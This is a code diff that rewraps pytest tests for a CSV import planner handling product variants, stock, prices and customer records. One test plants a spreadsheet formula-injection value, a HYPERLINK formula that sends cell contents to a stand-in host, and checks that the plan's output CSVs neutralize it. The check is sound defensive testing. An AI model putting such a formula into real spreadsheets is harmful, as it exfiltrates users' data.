@@ -53,7 +53,9 @@ thousands = "."
 "PVP" = "price"
 "Existencias" = "stock"
 """
-CHANGES = VARIANTS.replace('"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }')
+CHANGES = VARIANTS.replace(
+    '"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }'
+)
 CUSTOMERS = """
 kind = "customers"
 [columns]
@@ -81,16 +83,22 @@ def work(tmp_path: Path) -> Path:
     return tmp_path
 
 
-def planned(kind: KindName, folder: Path, rows: str, mapping: str | None = None, **more: Any) -> PlanResult:
+def planned(
+    kind: KindName, folder: Path, rows: str, mapping: str | None = None, **more: Any
+) -> PlanResult:
     """The plan of a file and its mapping."""
     (folder / "in.csv").write_bytes(rows.replace("\n", "\r\n").encode("cp1252"))
     if mapping is not None:
         (folder / "mapping.toml").write_text(mapping, "utf-8")
-    return make_plan(PlanOptions(kind, folder / "in.csv", folder / "mapping.toml" if mapping else None, **more))
+    return make_plan(
+        PlanOptions(kind, folder / "in.csv", folder / "mapping.toml" if mapping else None, **more)
+    )
 
 
 def variants(folder: Path, rows: str, mapping: str = VARIANTS, **more: Any) -> PlanResult:
-    return planned("variants", folder, "Producto;Variante;Código;PVP;Existencias\n" + rows, mapping, **more)
+    return planned(
+        "variants", folder, "Producto;Variante;Código;PVP;Existencias\n" + rows, mapping, **more
+    )
 
 
 def operations(made: PlanResult) -> list[PlannedOperation]:
@@ -138,12 +146,21 @@ def pushed(made: PlanResult, *changes: StateChange, at: float = 2.0, **manifest:
 
 def sent(number: int, *states: Any) -> list[StateChange]:
     doubts = {"in_doubt": 7.0}
-    return [StateChange(number, state, doubt_at=doubts.get(state)) for state in ("in_flight", *states)]
+    return [
+        StateChange(number, state, doubt_at=doubts.get(state)) for state in ("in_flight", *states)
+    ]
 
 
-def test_rows_that_give_different_fields_keep_their_own_and_those_that_may_add_travel_apart(work: Path) -> None:
-    made = variants(work, "1;11;A;;\n2;22;;19.367,25;\n3;33;;;7\n4;44;;;\n5;55;00038;1,00;2\n", batch_size=2)
-    assert [(one.path[-2:], one.body, one.repeatable, one.lines, one.id, one.batch) for one in operations(made)] == [
+def test_rows_that_give_different_fields_keep_their_own_and_those_that_may_add_travel_apart(
+    work: Path,
+) -> None:
+    made = variants(
+        work, "1;11;A;;\n2;22;;19.367,25;\n3;33;;;7\n4;44;;;\n5;55;00038;1,00;2\n", batch_size=2
+    )
+    assert [
+        (one.path[-2:], one.body, one.repeatable, one.lines, one.id, one.batch)
+        for one in operations(made)
+    ] == [
         ("11", {"sku": "A"}, True, (2,), 1, 1),
         ("22", {"price": 19367.25}, False, (3,), 2, 1),
         ("33", {"stock": 7}, False, (4,), 3, 2),
@@ -153,10 +170,17 @@ def test_rows_that_give_different_fields_keep_their_own_and_those_that_may_add_t
     assert {(one.method, one.path == one.target) for one in operations(made)} == {("PATCH", True)}
     assert b'"price":19367.25}' in (made.folder / "operations.jsonl").read_bytes()
     manifest = Plan(made.folder).manifest
-    assert (manifest.lines, manifest.sent, manifest.outcomes["patch"], manifest.outcomes["skipped"]) == (5, 4, 4, 1)
+    assert (
+        manifest.lines,
+        manifest.sent,
+        manifest.outcomes["patch"],
+        manifest.outcomes["skipped"],
+    ) == (5, 4, 4, 1)
 
 
-def test_only_what_differs_from_the_last_confirmed_is_sent_and_prices_that_jump_are_shown(work: Path) -> None:
+def test_only_what_differs_from_the_last_confirmed_is_sent_and_prices_that_jump_are_shown(
+    work: Path,
+) -> None:
     for variant in ("1001", "1002"):
         confirmed("1", variant, sku="00038", price=18.0, stock=7)
     confirmed("1", "1003", sku="a")
@@ -165,11 +189,16 @@ def test_only_what_differs_from_the_last_confirmed_is_sent_and_prices_that_jump_
     assert (one.path, one.body) == ("/products/1/variants/1002", {"price": 1800})
     assert fates(made) == dict.fromkeys((2, 4, 5), ("unchanged", ""))
     assert "assumed" in (made.folder / "unchanged.csv").read_text()
-    jumps = [tuple(jump[name] for name in ("line", "before", "now", "power")) for jump in made.statistics.jumps]
+    jumps = [
+        tuple(jump[name] for name in ("line", "before", "now", "power"))
+        for jump in made.statistics.jumps
+    ]
     assert jumps == [(3, "18.0", "1800", 2)]
     assert "- line 3: 18.0 → 1800 (about ×100)" in summary_of(made)
     with mock.patch("pipelines.plan.decide.MAX_JUMPS", 1):
-        assert "- and 1 more\n" in summary_of(variants(work, "1;1001;a;1.800,00;\n1;1002;a;1.800,00;\n"))
+        assert "- and 1 more\n" in summary_of(
+            variants(work, "1;1001;a;1.800,00;\n1;1002;a;1.800,00;\n")
+        )
     nothing = variants(work, "1;1001;00038;18,00;7\n")
     assert "a stock that is as last confirmed is not sent" in summary_of(nothing)
     assert (nothing.manifest.operations, "- nothing to send\n" in summary_of(nothing)) == (0, True)
@@ -186,9 +215,13 @@ def test_a_stock_that_is_set_is_sent_although_it_is_as_last_confirmed(work: Path
     changed = VARIANTS.replace('"stock"', '{ field = "stock", send = "changed" }')
     assert sent_as() == [{"stock": 39}]
     assert sent_as(changed) == []
-    assert sent_as(changed.replace('"price"', '{ field = "price", send = "always" }')) == [{"price": 18}]
+    assert sent_as(changed.replace('"price"', '{ field = "price", send = "always" }')) == [
+        {"price": 18}
+    ]
     assert sent_as(changed, send_all=True) == [{"sku": "00038", "stock": 39}, {"price": 18}]
-    with pytest.raises(UsageError, match="'Existencias': only values of updates that replace others"):
+    with pytest.raises(
+        UsageError, match="'Existencias': only values of updates that replace others"
+    ):
         sent_as(changed.replace("send =", "change = true, send ="))
 
 
@@ -201,7 +234,9 @@ def test_changes_are_sent_as_they_stand_and_zeros_left_out(work: Path) -> None:
         ("1003", {"stock": -2}, False),
     ]
     assert (fates(made), suspicious(made)) == ({3: ("skipped", "")}, [])
-    assert suspicious(variants(work, "1;1;a;1;3\n" * 3, CHANGES)) == [("stock", "merged", 2, [3, 4])]
+    assert suspicious(variants(work, "1;1;a;1;3\n" * 3, CHANGES)) == [
+        ("stock", "merged", 2, [3, 4])
+    ]
     with pytest.raises(UsageError, match="change"):
         variants(work, "1;1001;;;7\n")
 
@@ -220,22 +255,38 @@ def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(work: Path) 
     pushed(first, *sent(2, "confirmed"), plan_id="foreign", host="https://other.test")
     folder = str(first.folder.absolute())
     other = changes("1;1001;;;7\n1;1002;;;3\n")
-    assert (other.earlier_changes, changes(rows).earlier_changes) == ((1, folder, False), (1, folder, True))
+    assert (other.earlier_changes, changes(rows).earlier_changes) == (
+        (1, folder, False),
+        (1, folder, True),
+    )
     assert changes("1;1002;;;3\n").earlier_changes is None
     pushed(other, *sent(2, "confirmed"), at=6.0)  # only 1001 was sent by the first plan
     assert changes(rows).earlier_changes == (1, str(other.folder.absolute()), False)
     given_up = changes("1;1003;;;4\n1;1004;;;4\n")
-    pushed(given_up, *sent(1, "in_doubt", "abandoned"), StateChange(2, "abandoned"))  # the second was not sent
-    assert changes("1;1003;;;5\n1;1004;;;5\n").earlier_changes == (1, str(given_up.folder.absolute()), False)
+    pushed(
+        given_up, *sent(1, "in_doubt", "abandoned"), StateChange(2, "abandoned")
+    )  # the second was not sent
+    assert changes("1;1003;;;5\n1;1004;;;5\n").earlier_changes == (
+        1,
+        str(given_up.folder.absolute()),
+        False,
+    )
     everything = variants(work, "1;1005;;;1\n", CHANGES, send_all=True)
     pushed(everything, *sent(1, "confirmed"))
     again = variants(work, "1;1005;;;1\n", CHANGES, send_all=True)
-    assert again.manifest.plan_id == everything.manifest.plan_id, "an increment is never sent by another plan"
+    assert again.manifest.plan_id == everything.manifest.plan_id, (
+        "an increment is never sent by another plan"
+    )
 
 
 def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(work: Path) -> None:
-    made = variants(work, "1;3;c;3,5;3\n1;1;a;1,5;1\n1;2;b;2,5;2\n1;1;a;1,50;1\n1;2;b;2,5;3\n1;2;b;2,5;2\n")
-    assert {one.path for one in operations(made)} == {"/products/1/variants/1", "/products/1/variants/3"}
+    made = variants(
+        work, "1;3;c;3,5;3\n1;1;a;1,5;1\n1;2;b;2,5;2\n1;1;a;1,50;1\n1;2;b;2,5;3\n1;2;b;2,5;2\n"
+    )
+    assert {one.path for one in operations(made)} == {
+        "/products/1/variants/1",
+        "/products/1/variants/3",
+    }
     conflicting = ("rejected", "conflicting_lines")
     assert fates(made) == {4: conflicting, 5: ("merged", ""), 6: conflicting, 7: conflicting}
     lines = list(Plan(made.folder).unsent_lines())
@@ -248,18 +299,32 @@ def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(wor
     mapping = VARIANTS + '"Color" = "attributes.Color"\n"Talla" = "attributes.Talla"\n'
     rows = "Producto;Variante;Código;PVP;Existencias;Color;Talla\n1;1;a;1;1;R;S\n1;1;a;1;1;R;M\n"
     made = planned("variants", work, rows, mapping)
-    assert [line.words.rpartition("another ")[2] for line in Plan(made.folder).unsent_lines()] == ["Talla"] * 2
-    assert "the same key with other values: line 3 has the same Producto" in made.statistics.reasons[0].words
+    assert [line.words.rpartition("another ")[2] for line in Plan(made.folder).unsent_lines()] == [
+        "Talla"
+    ] * 2
+    assert (
+        "the same key with other values: line 3 has the same Producto"
+        in made.statistics.reasons[0].words
+    )
 
 
-def test_the_reject_file_corrected_goes_through_as_it_is_and_is_read_as_the_whole_file_was(work: Path) -> None:
+def test_the_reject_file_corrected_goes_through_as_it_is_and_is_read_as_the_whole_file_was(
+    work: Path,
+) -> None:
     mapping = VARIANTS.replace('decimal = ","\nthousands = "."\n', "").replace("PVP", "PVP | IVA")
     rows = "Producto;Variante;Código;PVP | IVA;Existencias\n1;1;Ñ1;1.234,5;x\n1;2;b;1.234;x\n1;3;c;3,5;3\n1;4;#N/A;y;\n"
-    made = planned("variants", work, rows, mapping, out=work / "first")  # the first price proves how they are written
+    made = planned(
+        "variants", work, rows, mapping, out=work / "first"
+    )  # the first price proves how they are written
     assert (made.exit_code, [reason.lines for reason in made.statistics.reasons]) == (5, [2, 1, 1])
     assert {reason.field for reason in made.statistics.reasons} == {"stock", "sku", "price"}
     header, _, line, *_ = (made.folder / "rejects.csv").read_bytes().splitlines(keepends=True)
-    assert header == "Producto;Variante;Código;PVP | IVA;Existencias;line;field;code;words\r\n".encode("cp1252")
+    assert (
+        header
+        == "Producto;Variante;Código;PVP | IVA;Existencias;line;field;code;words\r\n".encode(
+            "cp1252"
+        )
+    )
     (work / "fixed.csv").write_bytes(header + line.replace(b";x;", b";2;"))
     again = make_plan(PlanOptions("variants", work / "fixed.csv", made.folder / "mapping.toml"))
     assert (again.exit_code, bodies(again)) == (0, [{"sku": "b"}, {"price": 1234, "stock": 2}])
@@ -268,34 +333,58 @@ def test_the_reject_file_corrected_goes_through_as_it_is_and_is_read_as_the_whol
 
 
 def test_corrected_rejects_have_the_cells_that_were_filled_from_lines_above(work: Path) -> None:
-    mapping = VARIANTS.replace("[columns]", '[rows]\nfill_down = ["PVP"]\nfill_within = ["Producto"]\n[columns]')
+    mapping = VARIANTS.replace(
+        "[columns]", '[rows]\nfill_down = ["PVP"]\nfill_within = ["Producto"]\n[columns]'
+    )
     rows = "1;1;a;5;1\n1;2;b;;x\n1;3;c;7;1\n1;4;d;;x\n2;5;e;;x\n3;6;f;8;9;9\n3;7;g;;1\n"
     rejects = variants(work, rows, mapping).folder / "rejects.csv"
     _, *lines = csv.reader(rejects.read_text("cp1252").splitlines(), delimiter=";")
     assert [cells[3] for cells in lines] == ["5", "7", "", "8", ""]
-    assert [cells[-2] for cells in lines] == ["not_a_number", "not_a_number", "not_a_number", "too_long", "fill_torn"]
+    assert [cells[-2] for cells in lines] == [
+        "not_a_number",
+        "not_a_number",
+        "not_a_number",
+        "too_long",
+        "fill_torn",
+    ]
     rejects.write_bytes(rejects.read_bytes().replace(b";x;", b";2;").replace(b";8;9;9;", b";;9;"))
     corrected = make_plan(PlanOptions("variants", rejects, work / "mapping.toml"))
-    sent = {(one.path[-1], name): value for one in operations(corrected) for name, value in one.body.items()}
-    assert {key: value for key, value in sent.items() if key[1] == "price"} == {("2", "price"): 5, ("4", "price"): 7}
+    sent = {
+        (one.path[-1], name): value
+        for one in operations(corrected)
+        for name, value in one.body.items()
+    }
+    assert {key: value for key, value in sent.items() if key[1] == "price"} == {
+        ("2", "price"): 5,
+        ("4", "price"): 7,
+    }
     assert {path for path, _ in sent} == {"2", "4", "5"}
     assert fates(corrected) == {5: ("rejected", "fill_torn"), 6: ("rejected", "fill_torn")}
 
 
 def test_skipped_lines_a_rare_value_and_notes_are_reported_in_the_summary(work: Path) -> None:
-    made = planned("variants", work, "productId,variantId,sku\n1,1,A\xad\n" + "1,2,\n" * 6, passwords="mail")
+    made = planned(
+        "variants", work, "productId,variantId,sku\n1,1,A\xad\n" + "1,2,\n" * 6, passwords="mail"
+    )
     assert fates(made) == dict.fromkeys(range(3, 9), ("skipped", ""))
     assert "\n- 6 lines skipped: no field has a value (lines 3, 4, 5, 6, 7…)\n" in summary_of(made)
     assert "- 1 line: sku contains invisible or control characters (line 2)\n" in summary_of(made)
     assert "\xad" not in summary_of(made)
-    assert load(made.folder / "mapping.toml").generate_passwords is None, "variants have no passwords"
+    assert load(made.folder / "mapping.toml").generate_passwords is None, (
+        "variants have no passwords"
+    )
     notes = [f"column {number}: decimal comma" for number in range(12)]
     text = summary(made.manifest, PlanStatistics(1, notes=notes), Path())
-    assert [line for line in text.splitlines() if "decimal comma" in line] == [f"- {note}" for note in notes]
+    assert [line for line in text.splitlines() if "decimal comma" in line] == [
+        f"- {note}" for note in notes
+    ]
 
 
 def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path) -> None:
-    rows = "".join(f"1;{n};s{n};{n},5;{n}\n" for n in range(30)) + "1;3;x;1,5;1\n1;4;s4;4,5;4\n1;99;x;no;1\n"
+    rows = (
+        "".join(f"1;{n};s{n};{n},5;{n}\n" for n in range(30))
+        + "1;3;x;1,5;1\n1;4;s4;4,5;4\n1;99;x;no;1\n"
+    )
     expected = files_of(variants(work, rows, out=work / "first").folder)
     names = "plan.json operations.jsonl mapping.toml lines.csv rejects.csv unchanged.csv differences.csv summary.md"
     assert set(expected) == {*names.split(), ".gitignore"}
@@ -303,7 +392,9 @@ def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path
     arguments = ["plan", "variants", "../in.csv", "--mapping", "../mapping.toml", "--out", "plan"]
     root = str(Path(__file__).parents[3])
     env = {**os.environ, "PYTHONHASHSEED": "2", "TZ": "Asia/Tokyo", "PYTHONPATH": root}
-    done = subprocess.run([sys.executable, "-m", "pipelines.cli", *arguments], env=env, cwd=elsewhere, check=False)
+    done = subprocess.run(
+        [sys.executable, "-m", "pipelines.cli", *arguments], env=env, cwd=elsewhere, check=False
+    )
     assert done.returncode == 5
     assert files_of(elsewhere / "plan") == expected
 
@@ -315,7 +406,9 @@ def test_what_a_plan_depends_on_makes_another_plan_and_nothing_else_does(work: P
     os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "set"
     made.append(variants(work, "1;1;b;;\n", VARIANTS + "# another\n"))
     assert made[-1].manifest.semantics == {"price": "unknown", "stock": "set"}
-    assert len({one.manifest.plan_id for one in made}) == len({one.folder.name for one in made}) == 4
+    assert (
+        len({one.manifest.plan_id for one in made}) == len({one.folder.name for one in made}) == 4
+    )
     os.environ["SOURCES__LEGACY__LOGIN_MODE"] = "code"  # variants do not log in
     (made[-1].folder / "rejects.csv").write_text("corrected")
     again = variants(work, "1;1;b;;\n", VARIANTS + "# another\n")
@@ -338,13 +431,19 @@ def test_the_plan_of_another_organization_is_kept_beside(work: Path) -> None:
 
 def test_the_hash_of_an_input_is_that_of_all_its_bytes(work: Path) -> None:
     with mock.patch.object(encoding, "SAMPLE", 40), mock.patch.object(encoding, "CHUNK_BYTES", 40):
-        made = variants(work, "1;1;a;1,5;\n" * 8, VARIANTS.replace('decimal = ","\nthousands = "."', ""))
+        made = variants(
+            work, "1;1;a;1,5;\n" * 8, VARIANTS.replace('decimal = ","\nthousands = "."', "")
+        )
     assert made.manifest.input.sha256 == hashlib.sha256((work / "in.csv").read_bytes()).hexdigest()
     assert made.manifest.lines == 8
 
 
-@pytest.mark.parametrize(("step", "name"), [("open_inputs", "in.csv"), ("partition", "mapping.toml")])
-def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, step: str, name: str) -> None:
+@pytest.mark.parametrize(
+    ("step", "name"), [("open_inputs", "in.csv"), ("partition", "mapping.toml")]
+)
+def test_a_file_that_changes_while_it_is_planned_is_no_plan(
+    work: Path, step: str, name: str
+) -> None:
     do = getattr(make, step)
 
     def changed(*given: Any, **options: Any) -> Any:
@@ -352,7 +451,10 @@ def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, step: st
         (work / name).write_bytes((work / name).read_bytes() + b"\n")
         return done
 
-    with mock.patch.object(make, step, changed), pytest.raises(UsageError, match="was changed while it was planned"):
+    with (
+        mock.patch.object(make, step, changed),
+        pytest.raises(UsageError, match="was changed while it was planned"),
+    ):
         variants(work, "1;1;a;;\n")
     assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]
 
@@ -445,7 +547,12 @@ def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None
     rows += f"{second['erp_code']};Otra;{second['email']};;\nNEW1;Ana;ana@example.com;;N1\n"
     made = customers(rows)
     (one,) = operations(made)
-    assert (one.method, one.path, one.target, one.password) == ("POST", "/customers", "customers/2", "mailed")
+    assert (one.method, one.path, one.target, one.password) == (
+        "POST",
+        "/customers",
+        "customers/2",
+        "mailed",
+    )
     assert one.keys == {"erpCode": "NEW1", "email": "ana@example.com"}
     assert one.body == {
         "erpCode": "NEW1", "firstName": "Ana", "email": "ana@example.com",
@@ -460,7 +567,10 @@ def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None
     assert made.manifest.read is not None
     assert (made.manifest.read.rows, made.manifest.organization) == (6, "Distribuidora Peña S.A.C.")
     silent, notified = (
-        customers(f"{first['erp_code']};Ana;{second['email']};;X\nA\0;Ana;a@x.es;;\nB;Bea;b@x.es;;\n", **more)
+        customers(
+            f"{first['erp_code']};Ana;{second['email']};;X\nA\0;Ana;a@x.es;;\nB;Bea;b@x.es;;\n",
+            **more,
+        )
         for more in ({"passwords": "file"}, {"passwords": "file", "notify": True})
     )
     assert fates(silent) == {2: ("ambiguous", ""), 3: ("rejected", "nul")}
@@ -487,7 +597,10 @@ def test_new_customers_that_may_be_known_ones_are_pointed_out(platform: Bridge) 
         ("erpCode", "nearly_known", 1, (2,)), ("erpCode", "nearly_repeated", 6, (3, 4, 5, 6, 7)),
         ("priceListId", "not_listed", 2, (14, 15)), ("", "was_there", 2, (16, 17)),
     } < {(*others, tuple(lines)) for *others, lines in suspicious(made)}  # fmt: skip
-    assert "erpCode differs from one on the platform in zeros, case or punctuation only" in summary_of(made)
+    assert (
+        "erpCode differs from one on the platform in zeros, case or punctuation only"
+        in summary_of(made)
+    )
     for change in ("raw.price_lists SET id = 'pl_1'", "ops.coverage SET verdict = 'unproven'"):
         update(platform, f"UPDATE {change}")
         made = customers(rows, listed)
@@ -503,18 +616,26 @@ def test_what_others_typed_into_the_platform_is_counted_and_no_cell_of_a_plan_ru
     formula = '=HYPERLINK("http://x.test/?"&A1)'
     quoted = formula.replace('"', '""')
     platform.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
-    platform.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
+    platform.platform.state.add(
+        "customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"}
+    )
     platform.pull("customers")
-    made = customers(f'E1;Ana;e1@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\nE007;Ana;ana@example.com;;N1\n')
+    made = customers(
+        f'E1;Ana;e1@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\nE007;Ana;ana@example.com;;N1\n'
+    )
     assert made.manifest.read is not None
     assert (made.manifest.read.rows, made.manifest.read.refused) == (7, 1)
-    reported = "row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n"
+    reported = (
+        "row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n"
+    )
     assert f"\n1 {reported}" in summary_of(made)
     assert "the push looks up each new customer again before it sends" in summary_of(made)
     (difference,) = people_rows(made.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
     assert f"'{formula}" in difference["platform_value"]
     for path in made.folder.glob("*.csv"):
-        with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
+        with path.open(
+            encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline=""
+        ) as file:
             for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
                 assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
@@ -532,7 +653,9 @@ def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(platform: Bridge) 
     assert (read.run_id, read.verdict, read.rows) == (run, "complete", 6)
 
 
-def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platform: Bridge) -> None:
+def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(
+    platform: Bridge,
+) -> None:
     os.environ["DLT_PROJECT_DIR"] = str(Path.cwd())
     first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
     rows = f"{first['erp_code']};=Otra;{first['email']};;\n{second['erp_code']};Otra;{second['email']};1;\n"
@@ -545,17 +668,28 @@ def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platf
     assert (made.folder / "differences.csv").read_text("utf-8").splitlines() == [header, *found[1:]]
     assert "1 difference not listed: accepted in accepted.csv" in summary_of(made)
     assert "until reconcile.country" in summary_of(made)  # a phone differs
-    keys = "".join(f"{one['id']},{key}\n" for one in (first, second) for key in ("erpCode", "email"))
-    accepted.write_text(f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n{keys}", "utf-8")
-    assert fates(customers(rows, out=Path("any"))) == {2: ("exists_differs", ""), 3: ("exists_same", "")}
+    keys = "".join(
+        f"{one['id']},{key}\n" for one in (first, second) for key in ("erpCode", "email")
+    )
+    accepted.write_text(
+        f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n{keys}", "utf-8"
+    )
+    assert fates(customers(rows, out=Path("any"))) == {
+        2: ("exists_differs", ""),
+        3: ("exists_same", ""),
+    }
     made = customers(f"{first['erp_code']};;{second['email']};;\n", out=Path("ambiguous"))
-    assert (fates(made), made.statistics.accepted) == ({2: ("ambiguous", "")}, 0), "how they were found is accepted"
+    assert (fates(made), made.statistics.accepted) == ({2: ("ambiguous", "")}, 0), (
+        "how they were found is accepted"
+    )
     accepted.write_text("")
     with pytest.raises(UsageError, match=r"differences\.csv into it, or remove it"):
         customers(rows, out=Path("empty"))
 
 
-def test_customers_need_a_warehouse_of_the_same_host_and_all_that_is_lacking_is_named(platform: Bridge) -> None:
+def test_customers_need_a_warehouse_of_the_same_host_and_all_that_is_lacking_is_named(
+    platform: Bridge,
+) -> None:
     row, warehouse = "A;Ana;a@x.es;;\n", os.environ["WAREHOUSE__PATH"]
 
     def lacking(*words: str, **more: Any) -> None:
@@ -568,7 +702,9 @@ def test_customers_need_a_warehouse_of_the_same_host_and_all_that_is_lacking_is_
     every = ("no warehouse at", "orderbridge pull customers", "--passwords", "login_mode")
     lacking("3 things are missing", *every, passwords=None)
     os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email", "WAREHOUSE__PATH": warehouse}
-    lacking("column", "--passwords mail", "--passwords file", "`make` under [passwords]", passwords=None)
+    lacking(
+        "column", "--passwords mail", "--passwords file", "`make` under [passwords]", passwords=None
+    )
     made = customers(row, CUSTOMERS + '[passwords]\nmake = "file"\n', passwords=None)
     assert operations(made)[0].password == "stored"
     os.environ["SOURCES__LEGACY__BASE_URL"] = HOST
@@ -582,9 +718,17 @@ def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
     rows = "Código;Nombre;Correo;Teléfono;NIF;Clave\nA;Ana;a@x.es;;;hunter2\nB;;;;;hunter3\nC;Ana;c@x.es;;;hunter4\n"
     rows += "C;Ana;c@x.es;;;hunter4\nD;Ana;d@x.es;;;hunter5\nD;Ana;d@x.es;;;hunter6\n"
     made = planned("customers", Path.cwd(), rows, mapping)
-    assert [(one.keys["erpCode"], one.password) for one in operations(made)] == [("A", "input"), ("C", "input")]
+    assert [(one.keys["erpCode"], one.password) for one in operations(made)] == [
+        ("A", "input"),
+        ("C", "input"),
+    ]
     conflicting = ("rejected", "conflicting_lines")
-    assert fates(made) == {3: ("rejected", "required"), 5: ("merged", ""), 6: conflicting, 7: conflicting}
+    assert fates(made) == {
+        3: ("rejected", "required"),
+        5: ("merged", ""),
+        6: conflicting,
+        7: conflicting,
+    }
     assert b"hunter" not in b"".join(files_of(made.folder).values())
     assert b"must be filled in again" in (made.folder / "rejects.csv").read_bytes()
     words = [line.words for line in Plan(made.folder).unsent_lines()]
@@ -596,7 +740,16 @@ def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: P
     """Without a mapping file, with the choice of passwords made on the command line."""
     (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
     env, folder = dict(os.environ), tmp_path / "my plan"
-    plan = ["plan", "customers", "in.csv", "--passwords", "file", "--notify-customers", "--out", "my plan"]
+    plan = [
+        "plan",
+        "customers",
+        "in.csv",
+        "--passwords",
+        "file",
+        "--notify-customers",
+        "--out",
+        "my plan",
+    ]
     done = command(*plan, env=env, cwd=tmp_path)
     assert done.code == 5, done.said
     of_terminal, of_summary = (
@@ -606,7 +759,9 @@ def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: P
     for is_again in (False, True):
         sent = command(*of_summary[0], env=env, cwd=folder)
         assert "1  confirmed" in sent.out, sent.said
-        assert ("nothing was left to send" in sent.out) == is_again, "only a push that sent nothing says so"
+        assert ("nothing was left to send" in sent.out) == is_again, (
+            "only a push that sent nothing says so"
+        )
     again = command(*plan, env=env, cwd=tmp_path)
     assert "Nothing is left to send." in again.out, "a plan that was pushed says so"
     assert "Nothing was sent yet" not in again.out + (folder / "summary.md").read_text("utf-8")
@@ -618,12 +773,16 @@ def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: P
 NONE: frozenset[str] = frozenset()
 
 
-def found(name: str, *values: Any, increments: frozenset[str] = NONE, is_sheet: bool = False) -> list[Reason]:
+def found(
+    name: str, *values: Any, increments: frozenset[str] = NONE, is_sheet: bool = False
+) -> list[Reason]:
     """The reasons for values of a field, on lines from 2 on."""
     texts = [None if value is None else msgspec.json.encode(value).decode() for value in values]
     lines = pa.array([[line] for line in range(2, 2 + len(texts))])
     collected = SuspiciousValues(increments, is_sheet=is_sheet)
-    collected.add(pa.table({"lines": lines, "path": ["/p"] * len(texts), name: pa.array(texts, pa.string())}))
+    collected.add(
+        pa.table({"lines": lines, "path": ["/p"] * len(texts), name: pa.array(texts, pa.string())})
+    )
     return collected.reasons()
 
 
@@ -644,7 +803,9 @@ DAMAGED: list[tuple[str, str, list[Any], list[Any]]] = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("name", "code", "bad", "good"), DAMAGED, ids=[code for _, code, *_ in DAMAGED])
+@pytest.mark.parametrize(
+    ("name", "code", "bad", "good"), DAMAGED, ids=[code for _, code, *_ in DAMAGED]
+)
 def test_texts_and_numbers_that_are_rarely_meant_are_pointed_out(
     name: str, code: str, bad: list[Any], good: list[Any]
 ) -> None:
@@ -654,10 +815,18 @@ def test_texts_and_numbers_that_are_rarely_meant_are_pointed_out(
     assert found(name, *good) == []
 
 
-def test_an_increment_may_be_negative_and_meant_twice_and_a_price_of_a_sheet_has_few_decimals() -> None:
+def test_an_increment_may_be_negative_and_meant_twice_and_a_price_of_a_sheet_has_few_decimals() -> (
+    None
+):
     increments = frozenset({"stock"})
     assert found("stock", -2, increments=increments) == found("price", 1.234) == []
-    assert [(reason.code, reason.first) for reason in found("price", 1.23, 1.234, is_sheet=True)] == [("decimals", [3])]
+    assert [
+        (reason.code, reason.first) for reason in found("price", 1.23, 1.234, is_sheet=True)
+    ] == [("decimals", [3])]
     collected = SuspiciousValues(increments)
-    collected.add_merged(pa.table({"lines": pa.array([[3], [4]]), "stock": ["3", None], "sku": ["1", "2"]}))
-    assert [(reason.field, reason.code, reason.first) for reason in collected.reasons()] == [("stock", "merged", [3])]
+    collected.add_merged(
+        pa.table({"lines": pa.array([[3], [4]]), "stock": ["3", None], "sku": ["1", "2"]})
+    )
+    assert [(reason.field, reason.code, reason.first) for reason in collected.reasons()] == [
+        ("stock", "merged", [3])
+    ]
